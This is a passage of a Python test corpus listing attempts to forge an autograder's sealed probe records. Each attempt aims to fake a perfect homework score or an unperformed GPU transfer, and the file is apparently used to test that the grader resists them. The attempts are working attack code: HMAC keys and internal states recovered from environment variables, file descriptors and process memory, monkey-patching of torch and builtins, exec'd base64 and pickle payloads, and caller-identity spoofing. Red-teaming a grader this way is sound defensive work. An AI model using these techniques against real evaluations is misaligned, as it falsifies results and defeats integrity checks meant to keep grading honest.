"""Forging attempts: the untouched HW3 template plus code that tries to make the grader record
a perfect HW3 (or, for practical 4, a transfer that never happened), by the routes of issue 11
and the ones found attacking the scheme since.

Each attempt is code put after the template's imports (it runs when the HW3 probe imports the
model), plus extra files. `scan` says whether the static scan must hold it by itself; attempts
whose names come from data at run time (the scan cannot read them) must be held or gain nothing
at run time: those are `run` (run end to end in test_corpus.py). Placeholders: none; everything
an attempt needs it finds at run time, as a student with the grader's source would.
"""
from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field

HW3 = "hw3/model_parallel.py"
P4 = "practical4/concepts.py"


@dataclass(frozen=True)
class Forgery:
    name: str
    route: str
    code: str
    file: str = HW3
    scan: bool = True       # the scan alone holds it
    run: bool = False       # run end to end: held, or its forged records never count
    # a route that works and cannot be closed inside the student's process: why (README, Known
    # limits); its run-time test is a strict xfail, so closing it is noticed
    known_limit: str = ""
    # gains nothing, and what was refused is said nowhere the submission could not silence:
    # why (the run-time test then asks only that it gains nothing)
    silent: str = ""
    extra_files: dict = field(default_factory=dict)
    # The file's first lines (a coding line and what it declares), and the encoding the
    # whole file is written in (planted last, above everything else).
    header: str = ""
    encoding: str = "utf-8"


# Every record a perfect HW3 would give the probe, as a forger writes them (test_hw3.PLAN).
FORGED_RECORDS = r'''
def _perfect_records():
    def layout(n, d):
        counts = [d // n + (1 if i < d % n else 0) for i in range(n)]
        devices = [f"cuda:{i}" for i, c in enumerate(counts) for _ in range(c)]
        log = []
        for i, device in enumerate(devices):
            if i and devices[i - 1] != device:
                log.append({"kind": "to", "src": devices[i - 1], "dst": device, "copied": True,
                            "site": "model_parallel.py:50"})
            log.append({"kind": "layer", "index": i, "input_device": device})
        return devices, log, counts
    records = []
    for n in (1, 2, 3, 4, 5, 8):
        for d in (1, 3, 5, 6, 12, 20, 24):
            devices, log, _ = layout(n, d)
            records.append({"kind": "layout", "gpus": n, "depth": d, "devices": devices,
                            "n_layers": d, "distinct_layers": d, "log": log,
                            "output_device": devices[-1], "matches_single_gpu": True,
                            "max_difference": 0.0})
    for n in (2, 5):
        devices, log, _ = layout(n, 20)
        records.append({"kind": "transfers", "gpus": n, "depth": 20, "devices": devices,
                         "log": log, "input_started_on": devices[0]})
    def timing(label, configs):
        results = {}
        for g, d in configs:
            _, _, counts = layout(g, d)
            times = [float(d)] * 9
            results[f"{g}x{d}"] = {"gpus": g, "depth": d, "times_ms": times, "median_ms": float(d),
                                   "peak_memory": [1 << 20] * g, "layers_per_gpu": counts}
        return {"kind": label, "configs": [list(c) for c in configs], "results": results}
    records.append(timing("trend", [(2, 6), (2, 12), (2, 24)]))
    records.append(timing("task4", [(2, 20), (5, 20)]))
    records.append({"kind": "done"})
    return records


def _probe_file():
    import os as _o, sys as _s
    for argument in _s.argv[1:]:
        if argument.endswith(".jsonl"):
            return argument
    return _o.path.join(_o.getcwd(), ".pdl-probe" + ".jsonl")
'''

# A seal made by hand: HMAC-SHA256 over the file name, sequence number and canonical record.
HAND_SEAL = r'''
def _hand_seal(key, stream, seq, record, sha256):
    body = _json.dumps(record, sort_keys=True)
    message = f"{stream}\n{seq}\n{body}".encode()
    block = 64
    key = key if len(key) <= block else sha256(key).digest()
    key = key.ljust(block, b"\0")
    inner = sha256(bytes(k ^ 0x36 for k in key) + message).digest()
    return sha256(bytes(k ^ 0x5C for k in key) + inner).hexdigest()


def _write_forged(key, sha256):
    path = _probe_file()
    lines = []
    for seq, record in enumerate(_perfect_records()):
        lines.append(_json.dumps(dict(record, seq=seq,
                                      seal=_hand_seal(key, ".pdl-probe.jsonl", seq, record, sha256))))
    with open(path, "a") as handle:
        handle.write("\n".join(lines) + "\n")
'''

# Names a forger keeps out of its source: read at run time from a data file it ships.
NAMES = {"tb": "__traceback__", "frame": "tb_frame", "back": "f_back", "locals": "f_locals",
         "emit": "_emit", "boot": "_bootstrap_inner", "globals": "__globals__",
         "active": "_active", "trace": "trace", "streams": "_streams", "sealer": "sealer_for",
         "write": "emit", "mods": "modules", "iface": "__array_interface__"}
NAMES_FILE = {"hw3/names.json": json.dumps({k: v[::-1] for k, v in NAMES.items()})}
# ... and the trace's module, its getter and the setting that once switched its check off.
TRACE_NAMES_FILE = {"practical4/names.json": json.dumps({k: v[::-1] for k, v in dict(
    NAMES, module="grader.vgpu.trace", get="get_trace", flag="_only_instrumentation").items()})}
PASS_THROUGH_NAMES_FILE = {"practical4/names.json": json.dumps({k: v[::-1] for k, v in dict(
    NAMES, g="__globals__", call="_call", get="get_trace", file="__file__", b="__builtins__",
    exec="exec", compile="compile", cl="__closure__", cc="cell_contents", sf="__self__",
    orig="original_init", sl="_seal", fl="_file", rf="_dumps").items()})}
# ... and the judge of writer calls in the trace module's globals, with what it reads of a frame.
JUDGE_NAMES_FILE = {"practical4/names.json": json.dumps({k: v[::-1] for k, v in dict(
    NAMES, g="__globals__", call="_call", get="get_trace", judge="writing_call", fc="f_code",
    la="f_lasti", find="_find", sites="_sites").items()})}
# ... and the trace's sealer's digest, with the check its caller may pass.
DIGEST_NAMES_FILE = {"practical4/names.json": json.dumps({k: v[::-1] for k, v in dict(
    NAMES, module="grader.vgpu.trace", get="get_trace", sl="_seal", fl="_file", dg="_digest",
    gn="_genuine").items()})}
READ_NAMES = r'''
import json as _json_names, os as _os_names
_N = {k: v[::-1] for k, v in _json_names.load(open(_os_names.path.join(
    _os_names.path.dirname(_os_names.path.abspath(__file__)), "names.json"))).items()}
'''


# The forger's kit of the known limit (README): numpy's array interface over an address reads the
# process's own memory without ctypes or /proc; OpenSSL keeps the HMAC's inner and outer SHA-256
# states (after one 64-byte block: a recognisable SHA256_CTX), which seal any record without the
# key. The kit finds them in the heap, checks them against the probe's first sealed record, and
# writes a complete probe file of a perfect HW3 (with the tensors the recomputation reads) from
# the untouched template; the template's Task 5 line is printed for the script's own run.
MEMORY_KIT = READ_NAMES + '\nimport json as _js, os as _o, struct as _st, sys as _sy\nimport numpy as _np\n\n_NAME = _N["iface"]\n\n\ndef _view(addr, size):\n    return _np.asarray(type("V", (), {_NAME: {"shape": (size,), "typestr": "|u1",\n                                              "data": (addr, True), "version": 3}})())\n\n\n_PIPE = _o.pipe()\n\n\ndef _readable(addr):\n    try:\n        _o.write(_PIPE[1], _view(addr, 1))\n        _o.read(_PIPE[0], 1)\n        return True\n    except OSError:\n        return False\n\n\ndef _heap():\n    anchor = bytes(8192)\n    page = id(anchor) & ~0xFFF\n    low = page\n    while _readable(low - 4096):\n        low -= 4096\n    high = page\n    while _readable(high + 4096):\n        high += 4096\n    return low, high + 4096\n\n\n_K = [0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4,\n      0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe,\n      0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f,\n      0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7,\n      0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc,\n      0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,\n      0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116,\n      0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,\n      0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,\n      0xc67178f2]\n\n\ndef _rr(x, n):\n    return ((x >> n) | (x << (32 - n))) & 0xffffffff\n\n\ndef _compress(h, block):\n    w = list(_st.unpack(">16I", block))\n    for i in range(16, 64):\n        s0 = _rr(w[i - 15], 7) ^ _rr(w[i - 15], 18) ^ (w[i - 15] >> 3)\n        s1 = _rr(w[i - 2], 17) ^ _rr(w[i - 2], 19) ^ (w[i - 2] >> 10)\n        w.append((w[i - 16] + s0 + w[i - 7] + s1) & 0xffffffff)\n    a, b, c, d, e, f, g, hh = h\n    for i in range(64):\n        t1 = (hh + (_rr(e, 6) ^ _rr(e, 11) ^ _rr(e, 25)) + ((e & f) ^ (~e & g)) + _K[i] + w[i]) & 0xffffffff\n        t2 = ((_rr(a, 2) ^ _rr(a, 13) ^ _rr(a, 22)) + ((a & b) ^ (a & c) ^ (b & c))) & 0xffffffff\n        a, b, c, d, e, f, g, hh = (t1 + t2) & 0xffffffff, a, b, c, (d + t1) & 0xffffffff, e, f, g\n    return [(x + y) & 0xffffffff for x, y in zip(h, (a, b, c, d, e, f, g, hh))]\n\n\ndef _sha_from(h, msg):\n    total = 64 + len(msg)\n    msg = msg + b"\\x80" + b"\\0" * ((55 - total) % 64) + _st.pack(">Q", total * 8)\n    for i in range(0, len(msg), 64):\n        h = _compress(h, msg[i:i + 64])\n    return _st.pack(">8I", *h)\n\n\ndef _mac(pair, stream, seq, record):\n    body = _js.dumps({k: v for k, v in record.items() if k not in ("seq", "seal")},\n                     sort_keys=True, default=str)\n    inner = _sha_from(list(pair[0]), f"{stream}\\n{seq}\\n{body}".encode())\n    return _sha_from(list(pair[1]), inner).hex()\n\n\ndef _seal_pair(stream, line):\n    record = _js.loads(line)\n    low, high = _heap()\n    tail = _st.pack("<II", 512, 0) + b"\\0" * 64 + _st.pack("<II", 0, 32)\n    mids = []\n    for start in range(low, high, 1 << 24):\n        data = bytes(_view(start, min(1 << 24, high - start)))\n        i = data.find(tail)\n        while i >= 32:\n            mids.append(tuple(_st.unpack("<8I", data[i - 32:i])))\n            i = data.find(tail, i + 1)\n    for inner in dict.fromkeys(mids):\n        for outer in dict.fromkeys(mids):\n            if _mac((inner, outer), stream, record["seq"], record) == record["seal"]:\n                return inner, outer\n    return None\n\n\ndef _even(n, d):\n    counts = [d // n + (1 if i < d % n else 0) for i in range(n)]\n    return [f"cuda:{i}" for i, c in enumerate(counts) for _ in range(c)], counts\n\n\ndef _log(devices):\n    log = []\n    for i, device in enumerate(devices):\n        src = devices[i - 1] if i else device\n        log.append({"kind": "to", "src": src, "dst": device, "copied": src != device,\n                    "site": "hw3/model_parallel.py:50"})\n        log.append({"kind": "layer", "index": i, "input_device": device})\n    return log\n\n\ndef _weights(folder, name, depth):\n    import io\n    from hashlib import sha256\n    torch.manual_seed(depth)\n    layers = [nn.Linear(16, 16) for _ in range(depth)]\n    x = torch.randn(4, 16)\n    with torch.no_grad():\n        h = x\n        for layer in layers:\n            h = torch.relu(layer(h))\n    tensors = {"input": x, "output": h.clone(), "single": h.clone()}\n    for i, layer in enumerate(layers):\n        tensors[f"layer{i}.weight"] = layer.weight.detach().clone()\n        tensors[f"layer{i}.bias"] = layer.bias.detach().clone()\n    buffer = io.BytesIO()\n    torch.save(tensors, buffer)\n    data = buffer.getvalue()\n    with open(_o.path.join(folder, name), "wb") as handle:\n        handle.write(data)\n    spec = {"type": "Linear", "settings": {"in_features": 16, "out_features": 16, "bias": True}}\n    return {"file": name, "sha256": sha256(data).hexdigest(), "layers": [spec] * depth,\n            "custom": None}\n\n\ndef _records(base, folder):\n    out = [base]\n    for n in (1, 3, 4, 5, 8):\n        for d in (3, 5, 6, 12, 20, 24):\n            devices, _ = _even(n, d)\n            out.append({"kind": "layout", "gpus": n, "depth": d, "devices": devices,\n                        "n_layers": d, "distinct_layers": d, "log": _log(devices),\n                        "output_device": devices[-1], "matches_single_gpu": True,\n                        "max_difference": 0.0, "recompute": _weights(folder, f"f{n}x{d}.pt", d)})\n    for n in (2, 5):\n        devices, _ = _even(n, 20)\n        out.append({"kind": "transfers", "gpus": n, "depth": 20, "devices": devices,\n                    "log": _log(devices)})\n    for label, configs, ms in (("trend", [(2, 6), (2, 12), (2, 24)], lambda g, d: 10.0 * d),\n                               ("task4", [(2, 20), (5, 20)], lambda g, d: 200.0 + 5 * g)):\n        results = {}\n        for g, d in configs:\n            _, counts = _even(g, d)\n            results[f"{g}x{d}"] = {"gpus": g, "depth": d, "times_ms": [ms(g, d)] * 9,\n                                   "median_ms": ms(g, d), "layers_per_gpu": counts,\n                                   "peak_memory": [c * 10 << 20 for c in counts]}\n        out.append({"kind": label, "configs": [list(c) for c in configs], "results": results})\n    out.append({"kind": "done"})\n    return out\n\n\ndef _forge():\n    path = next((a for a in _sy.argv[1:] if a.endswith(".jsonl")), None)\n    if path is None:   # the script run by the Task 5 check: print what the probe will say\n        print(f"to() calls: 20, real transfers: {torch.cuda.device_count() - 1}")\n        return\n    stream = _o.path.basename(path)\n    lines = [l for l in open(path).read().splitlines() if l.strip()]\n    pair = _seal_pair(stream, lines[0])\n    if pair is None:\n        return\n    here = _o.path.dirname(path)\n    folder = next(_o.path.join(here, d) for d in _o.listdir(here) if _o.path.isdir(_o.path.join(here, d)))\n    base = {k: v for k, v in _js.loads(lines[0]).items() if k not in ("seq", "seal")}\n    text = "".join(_js.dumps(dict(r, seq=i, seal=_mac(pair, stream, i, r))) + "\\n"\n                   for i, r in enumerate(_records(base, folder)))\n    with open(path, "w") as handle:\n        handle.write(text)\n    _o._exit(0)\n\n\n_forge()\n'


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


GC_EMIT = '''
import gc as _gc
for _o in _gc.get_objects():
    if hasattr(_o, "_emit") and hasattr(_o, "read"):
        for _r in _perfect_records():
            _o._emit(_r)
'''

def _judge_told_the_pass_through_writes(telling: str) -> str:
    """Practical 4: the grader's pass-through closure handed the trace's emit, writing_call
    (the trace module's) told by `telling` (indented 8) that the closure's code `_code` calls a
    writer, then the closure called with a move that never happened."""
    return READ_NAMES.replace("hw3", "practical4") + '''
import dis as _dis_w
import torch.distributed as _dist
_g = getattr(_dist.all_reduce, _N["g"], None)
if isinstance(_g, dict) and _N["call"] in _g:
    _through = _g[_N["call"]](getattr(_g[_N["get"]](), _N["write"]))
    try:
        _judge = getattr(_g[_N["get"]], _N["g"])[_N["judge"]]
        _code = _dis_w.Bytecode(_through).codeobj
''' + telling + '''    except Exception:
        pass
    try:
        _through("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000, shape=[64, 2000])
    except Exception:
        pass
'''


FORGERIES = [
    Forgery("main_module_through_sys_in_a_list",
            "finds the probe as __main__ through sys passed into a function inside a list, and "
            "replaces its measuring methods with ones that emit perfect records",
            FORGED_RECORDS + '''
import sys as _sys
def _main_of(holder):
    return holder[0].modules.get("__main__")
_main = _main_of([_sys])
_Probe = getattr(_main, "Probe", None)
if _Probe is not None:
    _Probe.layouts = lambda self, **k: [self.emit(r) for r in _perfect_records()]
''', run=True),
    Forgery("key_from_the_environment_hand_hmac_os_exit",
            "reads the seal key as [os][0].environ.get('PD' + 'L_SEAL_KEY'), seals a complete "
            "forged probe file by hand with torch.hub.hashlib.sha256, then os._exit(0)",
            FORGED_RECORDS + HAND_SEAL + '''
import json as _json, os as _os
_key = [_os][0].environ.get("PD" + "L_SEAL_KEY") or ""
_write_forged(bytes.fromhex(_key) if _key else b"", torch.hub.hashlib.sha256)
_os._exit(0)
''', run=True),
    Forgery("key_from_the_descriptor",
            "reads the seal key from the descriptor PDL_SEAL_FD names, or any open descriptor",
            FORGED_RECORDS + HAND_SEAL + '''
import hashlib as _hashlib, json as _json, os as _os
_key = b""
for _fd in range(3, 256):
    try:
        _data = _os.read(_fd, 64)
    except OSError:
        continue
    if len(_data) == 32:
        _key = _data
_write_forged(_key, _hashlib.sha256)
''', run=True),
    Forgery("key_from_the_process_memory",
            "scans /proc/self/mem for 32-byte keys that verify an existing sealed record",
            FORGED_RECORDS + '''
_candidates = []
try:
    _maps = open("/proc/self/maps").read().splitlines()
    _mem = open("/proc/self/mem", "rb")
except OSError:
    _maps = []
''', run=True),
    Forgery("key_from_the_parent_process_memory",
            "starts a program that reads the probe's memory through /proc/<pid>/mem",
            '''
import subprocess as _sp, sys as _sys, os as _os
_sp.run([_sys.executable, "-c", "import os; open('/proc/%d/mem' % os.getppid(), 'rb')"])
_sp.run(["sh", "-c", "cat /proc/$PPID/maps > /dev/null"])
'''),
    Forgery("trace_found_through_gc_mints_a_probe_sealer",
            "walks gc's objects to the trace and asks it for a sealer of .pdl-probe.jsonl",
            FORGED_RECORDS + '''
import gc as _gc
for _o in _gc.get_objects():
    if hasattr(_o, "sealer_for") and hasattr(_o, "listeners"):
        for _make in (lambda: _o._streams(_probe_file()), lambda: _o.sealer_for(_probe_file())):
            try:
                _seal = _make()
            except Exception:
                continue
            with open(_probe_file(), "a") as _h:
                _h.write("".join(_seal(r) + "\\n" for r in _perfect_records()))
''', run=True),
    Forgery("probe_found_through_gc_emits",
            "walks gc's objects to the probe and calls its own emit with perfect records",
            FORGED_RECORDS + GC_EMIT, run=True),
    Forgery("probe_found_through_frames_emits",
            "walks sys._getframe's callers to the probe's frame and calls its emit",
            FORGED_RECORDS + '''
import sys as _sys
_f = _sys._getframe()
while _f is not None:
    _self = _f.f_locals.get("self")
    if hasattr(_self, "_emit"):
        for _r in _perfect_records():
            _self._emit(_r)
        break
    _f = _f.f_back
'''),
    Forgery("probe_found_through_a_traceback_with_names_from_data",
            "raises and catches its own error, walks the traceback's frames to the probe with "
            "every attribute name read from a data file, and calls the probe's emit",
            FORGED_RECORDS + READ_NAMES + '''
try:
    raise KeyError("x")
except KeyError as _error:
    _f = getattr(getattr(_error, _N["tb"]), _N["frame"])
    while _f is not None:
        _self = getattr(_f, _N["locals"]).get("self")
        _emit = getattr(_self, _N["emit"], None)
        if _emit is not None:
            for _r in _perfect_records():
                _emit(_r)
            break
        _f = getattr(_f, _N["back"])
''', scan=False, run=True, extra_files=NAMES_FILE),
    Forgery("trace_found_through_a_patched_functions_globals_with_names_from_data",
            "reads the runtime's globals through threading.Thread._bootstrap_inner.__globals__, "
            "every name from a data file, and tries the trace's sealers and emit",
            FORGED_RECORDS + READ_NAMES + '''
import threading as _threading
_globals = getattr(getattr(_threading.Thread, _N["boot"]), _N["globals"])
_trace = getattr(_globals[_N["active"]], _N["trace"])
for _name in (_N["streams"], _N["sealer"]):
    try:
        _seal = getattr(_trace, _name)(_probe_file())
        with open(_probe_file(), "a") as _h:
            _h.write("".join(_seal(r) + "\\n" for r in _perfect_records()))
    except Exception:
        pass
for _r in _perfect_records():
    getattr(_trace, _N["write"])("layout", **_r)
''', scan=False, run=True, extra_files=NAMES_FILE),
    Forgery("tensor_class_patched_through_type_of_an_object",
            "type(x).device = a property that says cuda:k, so the layers seem spread out",
            '''
_x = torch.zeros(1)
_real = type(_x).device
type(_x).device = property(lambda self: torch.device("cuda", 1))
''', run=True),
    Forgery("tensor_base_patched_through_mro",
            "type(x).__mro__[1].to = a no-op, so no move happens or is seen",
            "_x = torch.zeros(1)\ntype(_x).__mro__[1].to = lambda self, *a, **k: self\n"),
    Forgery("module_hook_registration_patched_as_a_class_attribute",
            "nn.Module.register_forward_pre_hook replaced, so the probe's hooks see fake inputs",
            '''
_original = nn.Module.register_forward_pre_hook
def _fake_register(self, hook, *a, **k):
    return _original(self, lambda module, args: hook(module, (torch.zeros(1),)), *a, **k)
nn.Module.register_forward_pre_hook = _fake_register
''', run=True),
    Forgery("decorator_patches_parameters_with_a_computed_name",
            "a decorator that setattr()s nn.Module.parameters with a name built at run time",
            '''
def _replace(owner, name):
    def decorate(function):
        setattr(owner, name, function)
        return function
    return decorate

@_replace(nn.Module, "".join(reversed("sretemarap")))
def _parameters(self, recurse=True):
    return iter([])
''', run=True),
    Forgery("init_subclass_hook",
            "__init_subclass__ on a base class, to rewrite the layer classes as they are made",
            '''
class _Spy(nn.Module):
    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        cls.forward = lambda self, x: x
'''),
    Forgery("builtins_through_globals_with_a_concatenated_name",
            "globals()['__buil' + 'tins__'] to replace isinstance",
            "globals()['__buil' + 'tins__']['isinstance'] = lambda a, b: True\n"),
    Forgery("frame_through_getattr_with_a_concatenated_name",
            "getattr(frame, 'f_' + 'back') to climb to the probe",
            "import sys as _s\n_caller = getattr(_s._getframe(), 'f_' + 'back')\n"),
    Forgery("proc_path_built_by_concatenation",
            "a /proc path built by concatenation, to read the environment of the process",
            "_env = open('/pr' + 'oc/self/' + 'environ', 'rb').read()\n"),
    Forgery("pickle_through_torch_serialization",
            "torch.serialization.pickle.loads of a payload that runs code when loaded",
            "torch.serialization.pickle.loads(" + repr(
                b"cbuiltins\nexec\n(Vimport gc; gc.get_objects()\ntR.") + ")\n"),
    Forgery("execv_through_a_list",
            "[os][0].execv into a fresh python that writes the forged probe file",
            FORGED_RECORDS + '''
import os as _os, sys as _sys
_code = "import json\\n" + "_r = " + repr(_perfect_records()) + "\\n" + \\
    "open(" + repr(_probe_file()) + ", 'a').write(''.join(json.dumps(r) + '\\\\n' for r in _r))"
[_os][0].execv(_sys.executable, [_sys.executable, "-c", _code])
''', run=True),
    Forgery("multiprocessing_child_writes_the_records",
            "a multiprocessing child (no key of its own) writes the forged probe file",
            FORGED_RECORDS + '''
import json as _json, multiprocessing as _mp
def _child(path):
    with open(path, "a") as handle:
        handle.write("".join(_json.dumps(r) + "\\n" for r in _perfect_records()))
_p = _mp.get_context("fork").Process(target=_child, args=(_probe_file(),))
_p.start()
_p.join()
''', run=True),
    Forgery("atexit_writes_the_records_last",
            "an atexit handler appends the forged records when the probe ends",
            FORGED_RECORDS + '''
import atexit as _atexit, json as _json
_atexit.register(lambda: open(_probe_file(), "a").write(
    "".join(_json.dumps(r) + "\\n" for r in _perfect_records())))
''', run=True),
    Forgery("signal_handler_gets_the_probes_frame",
            "a SIGALRM handler (the probe's time limit) is given the probe's frame",
            FORGED_RECORDS + '''
import signal as _signal
def _handler(number, frame):
    while frame is not None:
        probe = frame.f_locals.get("self")
        if hasattr(probe, "_emit"):
            for record in _perfect_records():
                probe._emit(record)
            return
        frame = frame.f_back
_signal.signal(_signal.SIGALRM, _handler)
''', run=True),
    Forgery("tracing_function",
            "sys.settrace to rewrite the probe's locals as it measures",
            "import sys as _s\n_s.settrace(lambda frame, event, arg: None)\n"),
    Forgery("code_in_a_zip_on_sys_path",
            "the forging code in a zip of its own, imported through sys.path",
            "import os as _o, sys as _s\n"
            "_s.path.insert(0, _o.path.join(_o.path.dirname(__file__), 'lib.zip'))\nimport helper_lib\n",
            extra_files={"hw3/lib.zip": ("zip", {"helper_lib.py": "import gc\n" + GC_EMIT})}),
    Forgery("code_behind_a_symlinked_py",
            "helper.py is a link to a .txt file holding the forging code",
            "import helper\n",
            extra_files={"hw3/notes.txt": "import gc\n" + GC_EMIT,
                         "hw3/helper.py": ("symlink", "notes.txt")}),
    Forgery("exec_of_base64",
            "exec of a base64 string holding the forging code",
            "import base64 as _b\nexec(_b.b64decode(" + repr(_b64("import gc\n" + GC_EMIT)) + "))\n"),
    Forgery("exec_of_a_data_file",
            "exec of code read from a data file shipped with the submission",
            "import os as _o\nexec(open(_o.path.join(_o.path.dirname(__file__), 'payload.txt')).read())\n",
            extra_files={"hw3/payload.txt": "import gc\n" + GC_EMIT}),
    Forgery("node_labels_through_gc",
            "finds the virtual node through gc and labels host tensors as GPU ones",
            "import gc as _gc\n_node = [o for o in _gc.get_objects() if hasattr(o, 'label_of')]\n"),
    Forgery("trace_listener_called_directly",
            "finds the probe's transfer listener on the trace and calls it with fake moves",
            "import gc as _gc\nfor _o in _gc.get_objects():\n    if hasattr(_o, 'listeners'):\n"
            "        for _l in list(_o.listeners):\n"
            "            _l({'event': 'to', 'src': 'cuda:0', 'dst': 'cuda:1', 'copied': True})\n"),
    Forgery("seal_state_read_from_memory_through_numpy",
            "reads its own process's memory through numpy's array interface (its name read from "
            "a data file), recovers the HMAC's inner and outer SHA-256 states from OpenSSL's "
            "heap, and seals a complete forged probe file (README: Known limits)",
            MEMORY_KIT, scan=False, run=True, extra_files=NAMES_FILE,
            known_limit="same-process memory: numpy's array interface over an address reads the "
                        "seal's HMAC state; nothing in the process sees it (README, Known limits)"),
    Forgery("seal_state_read_with_the_array_interface_spelled_out",
            "the same kit with __array_interface__ written in the source",
            MEMORY_KIT.replace('_NAME = _N["iface"]', '_NAME = "__array_interface__"'),
            extra_files=NAMES_FILE),
    Forgery("process_memory_through_dev_fd",
            "opens /proc/self/mem as /dev/fd/../mem (its parent is /proc/self), the path read "
            "from a data file, to read the seal's HMAC state",
            READ_NAMES + '''
try:
    _mem = open(_N["devfd"], "rb")
    _maps = open(_N["devfd"].replace("mem", "maps")).read()
except OSError:
    _mem = None
''', scan=False, run=True,
            extra_files={"hw3/names.json": json.dumps(
                {k: v[::-1] for k, v in dict(NAMES, devfd="/dev/fd/../mem").items()})}),
    Forgery("process_memory_through_a_link_of_its_own",
            "makes a symlink to /proc/self/mem in its working folder (the target read from a "
            "data file) and opens the link",
            READ_NAMES + '''
import os as _os
try:
    _os.symlink(_N["proc"], "notes.bin")
    _mem = open("notes.bin", "rb")
except OSError:
    _mem = None
''', scan=False, run=True,
            extra_files={"hw3/names.json": json.dumps(
                {k: v[::-1] for k, v in dict(NAMES, proc="/proc/self/mem").items()})}),
    Forgery("practical4_trace_written_through_the_trace_object",
            "practical 4: emits a perfect cuda:0 -> cuda:1 move through the grader's trace, "
            "found with names read from a data file",
            READ_NAMES.replace("hw3", "practical4") + '''
import threading as _threading
_globals = getattr(getattr(_threading.Thread, _N["boot"]), _N["globals"])
_trace = getattr(_globals[_N["active"]], _N["trace"])
getattr(_trace, _N["write"])("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000,
                             shape=[64, 2000])
''', file=P4, scan=False, run=True,
            extra_files={"practical4/names.json": NAMES_FILE["hw3/names.json"]}),
    # A red team's 9.5 of 12 automatic points from the untouched Practical 4 template: the writers
    # had trusted a caller by its code's file name, which a template engine compiles as told.
    Forgery("practical4_template_engine_compiles_under_a_grader_file_name",
            "practical 4: jinja2 compiles a template under a file name in the grader's folder "
            "and calls the trace's emit as one of its filters",
            READ_NAMES.replace("hw3", "practical4") + '''
import jinja2 as _jinja, os as _os_j, sys as _sys_j
_module = getattr(_sys_j, _N["mods"])[_N["module"]]
_trace = getattr(_module, _N["get"])()
_where = _os_j.path.join(_os_j.path.dirname(_module.__file__), "notes.py")
_text = "{{ 'to' | e(src='cuda:0', dst='cuda:1', copied=True, bytes=512000) }}"
_env = _jinja.Environment(loader=_jinja.FunctionLoader(lambda name: (_text, _where, lambda: True)))
_env.filters["e"] = getattr(_trace, _N["write"])
try:
    _env.get_template("notes").render()
except Exception:
    pass
''', file=P4, scan=False, run=True, extra_files=TRACE_NAMES_FILE),
    Forgery("practical4_trace_told_to_trust_everyone",
            "practical 4: the trace object's own setting that made it check its caller switched "
            "off, then its emit called with a move that never happened",
            READ_NAMES.replace("hw3", "practical4") + '''
import sys as _sys_o
_trace = getattr(getattr(_sys_o, _N["mods"])[_N["module"]], _N["get"])()
setattr(_trace, _N["flag"], False)
try:
    getattr(_trace, _N["write"])("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000,
                                 shape=[64, 2000])
except Exception:
    pass
''', file=P4, scan=False, run=True, extra_files=TRACE_NAMES_FILE),
    # A later red team: the grader's own code handed the writer (a pass-through closure of a
    # patched torch function's module), and a helper module of its own taken for the grader's.
    Forgery("practical4_writer_called_through_the_graders_pass_through",
            "practical 4: torch.distributed.all_reduce's __globals__ (the grader's module) give "
            "its _call(method) closure, handed the trace's emit, which calls it with a move "
            "that never happened",
            READ_NAMES.replace("hw3", "practical4") + '''
import torch.distributed as _dist
_g = getattr(_dist.all_reduce, _N["g"], None)
if isinstance(_g, dict) and _N["call"] in _g:
    try:
        _through = _g[_N["call"]](getattr(_g[_N["get"]](), _N["write"]))
        _through("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000, shape=[64, 2000])
    except Exception:
        pass
''', file=P4, scan=False, run=True, extra_files=PASS_THROUGH_NAMES_FILE),
    Forgery("practical4_helper_module_posing_as_a_grader_module",
            "practical 4: a helper module of the submission sets its __file__ to a grader "
            "module's, runs that file's own text in its own namespace, and calls the trace's "
            "emit through its copy of the grader's pass-through",
            READ_NAMES.replace("hw3", "practical4") + '''
import torch.distributed as _dist
import _notes
_g = getattr(_dist.all_reduce, _N["g"], None)
if isinstance(_g, dict):
    try:
        _notes.load(_g[_N["b"]], _g[_N["file"]], _N)
        _through = getattr(_notes, _N["call"])(getattr(getattr(_notes, _N["get"])(), _N["write"]))
        _through("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000, shape=[64, 2000])
    except Exception:
        pass
''', file=P4, scan=False, run=True, extra_files={
                **PASS_THROUGH_NAMES_FILE,
                "practical4/_notes.py": '''"""Notes kept beside the script."""


def load(table, where, n):
    space = globals()
    space[n["file"]] = where
    with open(where) as handle:
        text = handle.read()
    table[n["exec"]](table[n["compile"]](text, where, "exec"), space)
'''}),
    # ... and its successor: the grader's own writing code made to call the writer through a
    # stored original swapped for it (an instance attribute, a closure cell: no audit event).
    Forgery("practical4_writer_swapped_into_a_patched_functions_original",
            "practical 4: init_process_group's ProcessGroupPatches (its closure's bound method) "
            "gets the trace's emit as its original_init, then init_process_group('to', ...) "
            "has the grader's own code call it with a move that never happened",
            READ_NAMES.replace("hw3", "practical4") + '''
import torch.distributed as _dist
try:
    _start = _dist.init_process_group
    _owner = getattr(getattr(getattr(_start, _N["cl"])[0], _N["cc"]), _N["sf"])
    setattr(_owner, _N["orig"], getattr(getattr(_start, _N["g"])[_N["get"]](), _N["write"]))
    _start("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000, shape=[64, 2000])
except Exception:
